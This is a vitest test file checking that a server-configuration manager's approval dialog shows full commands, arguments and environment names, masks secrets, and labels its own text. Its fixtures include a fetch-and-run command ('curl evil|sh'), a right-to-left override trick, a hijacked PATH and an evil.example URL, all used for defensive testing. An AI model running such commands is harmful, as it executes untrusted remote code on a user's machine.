import { expect, it } from 'vitest';
import type { Question } from '../lib/question';
import { change, openManagerCore, remote, set } from '../testing/managerCore';
import { never } from '../testing/never';
import { tempDir } from '../testing/tempDir';

it('shows every argument, the whole host, and the names in env in the dialog, and no secret', async () => {
  await using dir = await tempDir();
  await using core = await openManagerCore(dir.path, { answer: 'cancel' });
  const env = {
    API_KEY: set('hidden-value'),
    PATH: set('/opt/evil:/bin'),
    PIP_INDEX_URL: set('https://me:hidden-value@pypi.example/simple'),
    REF: set('${TOKEN}'),
  };
  await core.manager.save(
    undefined,
    change({ command: ['sh', '-c', 'curl evil|sh', 'x\u202Ey'], env, cwd: '/w' }),
    never(),
  );
  await core.manager.save(undefined, remote({ url: 'http://evil.example:81/mcp?key=hidden-value' }), never());
  const [local, far] = core.questions;
  const row = (question: Question | undefined, label: string) => question?.rows.find((it) => it.label === label)?.value;
  expect(row(local, 'Program')).toEqual(['sh']);
  expect(row(local, 'Arguments')).toEqual(['-c', 'curl evil|sh', 'x⟨U+202E⟩y']);
  expect(row(local, 'Folder')).toEqual(['/w']);
  expect(row(local, 'Variables set')).toEqual(['API_KEY', 'PATH', 'PIP_INDEX_URL', 'REF']);
  expect(row(local, 'Values that steer what runs')).toEqual([
    'PATH=/opt/evil:/bin',
    'PIP_INDEX_URL=https://••••••••:••••••••@pypi.example/simple',
  ]);
  expect(row(local, 'Looked up')).toEqual(['env/REF: env:TOKEN']);
  expect(local?.warnings).toHaveLength(3);
  expect(row(far, 'Address')).toEqual(['http://evil.example:81/mcp?key=••••••••']);
  expect(JSON.stringify(core.questions)).not.toContain('hidden-value');
});

it('marks its own words, so that no text of a server can pass for them', async () => {
  await using dir = await tempDir();
  await using core = await openManagerCore(dir.path, { answer: 'cancel' });
  await core.manager.save(undefined, change({ command: ['sh'] }), never());
  await core.manager.save(undefined, change({ command: ['sh'], cwd: 'your home folder' }), never());
  const folders = core.questions.map(({ rows }) => rows.find(({ label }) => label === 'Folder'));
  expect(folders).toEqual([
    { label: 'Folder', value: ['your home folder'], before: null, isWords: true },
    { label: 'Folder', value: ['your home folder'], before: null },
  ]);
});
